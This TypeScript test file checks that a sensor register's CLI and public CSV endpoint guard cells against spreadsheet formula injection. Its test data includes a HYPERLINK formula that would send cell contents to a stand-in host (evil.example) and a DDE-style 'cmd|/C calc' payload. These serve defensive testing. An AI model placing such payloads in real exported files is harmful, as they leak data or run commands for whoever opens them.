/**
 * Issue 14, item 7: CSV formula injection. `sensors export --format csv` wrote cells unguarded,
 * and the public CSV guarded = + - @ but not a leading tab, carriage return, or spaces before
 * them. Every CSV is now written by one function (core/csv.ts). Against the real CLI (export,
 * import) and the real `streetsense register` process; hostile text comes in as register entries.
 */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvCell, fromCsvCell } from '../../core/csv.js'
import { parseCsv } from '../../registry/csv.js'
import { buildEntry } from '../../registry/defaults.js'
import { type InfluxServer, startInfluxd } from '../helpers/influxd.js'
import { cli, type RegisterProcess, startRegisterProcess, tempDir } from '../helpers/processes.js'

const CAMDEN = 'E09000007'
/** Names a spreadsheet would run as formulas, and two it would not. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  ' @xyz',
  "'=already quoted",
  'Euston Road at Gower Street',
  "O'Neill Road",
]
/** What a spreadsheet treats as a formula: = + - @ tab CR, also after spaces. */
const DANGEROUS = /^ *[=+\-@\t\r]/

describe('CSV formula injection (real CLI and register)', () => {
  const data = tempDir('ss-csv-')
  let influx: InfluxServer
  let register: RegisterProcess
  const ids = NAMES.map((_, i) => `csv-${i}`)

  beforeAll(async () => {
    const file = join(data.dir, 'hostile.json')
    const entries = NAMES.map((name, i) =>
      buildEntry({ id: ids[i]!, borough: CAMDEN, kind: 'air', name, address: name }),
    )
    // A sensor id may begin with '-' (the schema allows it): an id cell must be guarded too.
    entries.push(buildEntry({ id: '-1-2', borough: CAMDEN, kind: 'air', name: 'Minus' }))
    writeFileSync(file, JSON.stringify(entries))
    await cli(['sensors', 'import', file, '--data-dir', data.dir])
    influx = await startInfluxd()
    register = await startRegisterProcess({ dataDir: data.dir, influxUrl: influx.url })
  }, 600_000)

  afterAll(async () => {
    await register?.stop()
    await influx?.stop()
    data.remove()
  })

  /** Every cell of a CSV text, by column name. */
  const cellsOf = (text: string) => {
    const [header, ...rows] = parseCsv(text)
    return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])))
  }
  /** Cells a spreadsheet would run (a plain number such as a longitude is a number, not a formula). */
  const unguarded = (cells: string[]) => cells.filter((c) => DANGEROUS.test(c) && !/^-?\d+(\.\d+)?$/.test(c))

  it('`sensors export --format csv` guards every text cell and `sensors import` reads them back unchanged', async () => {
    const csv = await cli(['sensors', 'export', '--format', 'csv', '--data-dir', data.dir])
    const rows = cellsOf(csv)
    const cells = rows.flatMap((r) => Object.values(r))
    expect(unguarded(cells)).toEqual([])
    expect(rows.find((r) => r.id === "'-1-2")).toBeDefined()
    // Numbers are numbers: London's longitudes are negative and stay unquoted.
    expect(rows.every((r) => /^-?\d/.test(r.lon!))).toBe(true)
    // Round trip into another register: the names are the ones registered.
    const again = tempDir('ss-csv-again-')
    try {
      const file = join(again.dir, 'register.csv')
      writeFileSync(file, csv)
      await cli(['sensors', 'import', file, '--data-dir', again.dir])
      const back = JSON.parse(await cli(['sensors', 'list', '--data-dir', again.dir, '--json'])) as {
        id: string
        name: string
      }[]
      const byId = new Map(back.map((e) => [e.id, e.name]))
      for (const [i, name] of NAMES.entries()) expect(byId.get(ids[i]!), JSON.stringify(name)).toBe(name.trim())
      expect(byId.get('-1-2')).toBe('Minus')
    } finally {
      again.remove()
    }
  })

  it("the register's public CSV guards every text cell, ids included, and leaves coordinates alone", async () => {
    const res = await fetch(`${register.url}/v1/sensors?format=csv&limit=1000`)
    expect(res.status).toBe(200)
    const rows = cellsOf(await res.text())
    expect(rows).toHaveLength(NAMES.length + 1)
    expect(unguarded(rows.flatMap((r) => Object.values(r)))).toEqual([])
    expect(rows.map((r) => r.id)).toContain("'-1-2")
    expect(rows.every((r) => /^-0\.\d+$/.test(r.longitude!))).toBe(true)
    const named = new Map(rows.map((r) => [r.id, r.name]))
    expect(named.get('csv-4')).toBe("'\t=1+1")
    expect(named.get('csv-6')).toBe("'   =1+1")
    expect(named.get('csv-8')).toBe("''=already quoted")
    expect(named.get('csv-10')).toBe("O'Neill Road")
  })

  it('one function decides, and undoes exactly what it did', () => {
    for (const s of [...NAMES, '', "'", "''+", ' ', '-', '0', 'a=b']) {
      const [parsed] = parseCsv(`x,${csvCell(s)},y\r\n`)
      const text = parsed?.[1] ?? ''
      expect(DANGEROUS.test(text), JSON.stringify(s)).toBe(false)
      expect(fromCsvCell(text), JSON.stringify(s)).toBe(s)
    }
    expect(csvCell(-0.1337)).toBe('-0.1337')
  })
})
